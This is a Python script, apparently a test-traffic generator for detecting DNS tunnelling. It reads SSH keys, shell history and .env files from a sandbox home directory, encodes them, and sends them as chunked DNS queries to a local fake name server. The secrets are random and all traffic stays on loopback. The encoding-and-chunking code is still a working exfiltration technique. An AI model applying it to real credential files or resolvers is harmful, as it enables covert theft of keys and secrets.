#!/usr/bin/python3
# family: exfiltration
# actors: python3.*
# timeout: 60
"""DNS tunnelling / exfiltration (MITRE T1048.003, T1071.004): reads secrets from the sandbox HOME (a key, a history, an
environment file), encodes them (hex as dnscat2 does, base32 as iodine does, or base64url as DNSExfiltrator does), cuts the
text into labels of 20-63 characters, one to three a question, and asks for each chunk under a made-up domain from a
loopback "name server" (a thread of its own on 127.x.y.z:53 that answers NXDOMAIN), with a sequence number and a session
id in the name, through sendto, or send/sendmsg on a connected socket. Some runs send names so long that strace's -s
256 cuts them. A few ordinary lookups on the way."""
import base64, os, random, socket, struct, threading, time

rng = random.Random(int(os.environ["PG_SEED"]))
home = os.environ["HOME"]

# What it steals: a key, a shell history and an environment file written for it in the sandbox HOME.
secrets = []
os.makedirs(os.path.join(home, ".ssh"), exist_ok=True)
for name, size in ((".ssh/id_ed25519", rng.randint(300, 900)), (".bash_history", rng.randint(200, 1500)),
                   (".env", rng.randint(80, 400))):
    path = os.path.join(home, name)
    with open(path, "w") as f:
        f.write("".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 =/+\n") for _ in range(size)))
for name in rng.sample([".ssh/id_ed25519", ".bash_history", ".env"], rng.randint(1, 3)):
    with open(os.path.join(home, name), "rb") as f:
        secrets.append(f.read())
data = b"".join(secrets)[: rng.randint(400, 2400)]

server = "127.%d.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250), rng.randint(2, 250))
ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
ns.bind((server, 53))


def answer():
    while True:
        try:
            q, peer = ns.recvfrom(512)
        except OSError:
            return
        ns.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\0\0\0\0\0\0" + q[12:], peer)  # NXDOMAIN, the question echoed


threading.Thread(target=answer, daemon=True).start()

encoding = rng.choice(["hex", "base32", "base64url"])
if encoding == "hex":
    text = data.hex()
elif encoding == "base32":
    text = base64.b32encode(data).decode().rstrip("=").lower()
else:
    text = base64.urlsafe_b64encode(data).decode().rstrip("=")
word = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(4, 10)))
domain = word + "." + rng.choice(["com", "net", "io", "xyz", "top", "co.uk", "info"])
session = "%04x" % rng.randint(0, 0xFFFF)
label = rng.randint(20, 63)
per_question = rng.choice([1, 1, 2, 3, 4])  # four labels of 60: names strace's -s 256 cuts
how = rng.choice(["sendto", "send", "sendmsg"])


def message(name):
    qid = rng.randint(0, 0xFFFF)
    out = struct.pack(">HHHHHH", qid, 0x100, 1, 0, 0, 0)
    for part in name.split("."):
        out += bytes([len(part)]) + part.encode()
    return out + b"\0" + struct.pack(">HH", rng.choice([1, 16, 28]), 1)


client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.settimeout(0.5)
if how != "sendto":
    client.connect((server, 53))


def ask(name):
    q = message(name)
    if how == "sendto":
        client.sendto(q, (server, 53))
    elif how == "send":
        client.send(q)
    else:
        client.sendmsg([q])
    try:
        client.recv(512)
    except OSError:
        pass


if rng.random() < 0.5:
    ask(rng.choice(["www.example.com", "api.github.com", "deb.debian.org"]))
chunks = [text[i:i + label] for i in range(0, len(text), label)]
seq = 0
for i in range(0, len(chunks), per_question):
    labels = chunks[i:i + per_question]
    ask(".".join(["%s%03d" % (session, seq)] + labels + [domain]) if rng.random() < 0.7 else ".".join(labels + [domain]))
    seq += 1
    if rng.random() < 0.3:
        time.sleep(rng.uniform(0.0, 0.05))
ask(".".join(["%s%03d" % (session, seq), "end", domain]))
ns.close()
